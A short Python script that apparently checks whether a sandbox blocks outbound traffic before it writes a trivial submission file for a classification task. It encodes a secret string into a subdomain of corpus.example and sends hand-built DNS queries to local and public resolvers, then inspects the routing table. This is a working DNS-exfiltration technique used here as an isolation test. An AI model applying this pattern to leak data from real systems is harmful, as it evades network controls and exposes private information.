import csv
import socket
import struct
import sys

through = []


def denied(what, attempt):
    try:
        attempt()
    except OSError:
        return
    through.append(what)


def ask(server, name):
    """A question for an address, put to a name server by hand."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
        query.settimeout(0.2)
        query.sendto(
            struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + struct.pack(">B2H", 0, 1, 1), (server, 53)
        )
        query.recv(512)


def servers():
    try:
        lines = open("/etc/resolv.conf").read().splitlines()
    except OSError:
        return []
    return [line.split()[1] for line in lines if line.startswith("nameserver")]


secret = "row-r000-is-1"
denied("the resolver", lambda: socket.getaddrinfo(f"{secret}.corpus.example", 443))
for server in (*servers(), "127.0.0.53", "127.0.0.11", "8.8.8.8", "1.1.1.1"):
    denied(server, lambda: ask(server, f"{secret}.corpus.example"))
with open("/proc/net/route") as routes:
    through += [f"route {line}" for line in routes.read().splitlines()[1:]]
if through:
    sys.exit(f"got through: {through}")

with open("/input/test.csv") as test, open("/output/submission.csv", "w") as out:
    out.write("id,target\n")
    for row in csv.DictReader(test):
        out.write(f"{row['id']},{int(float(row['x']) > 0)}\n")
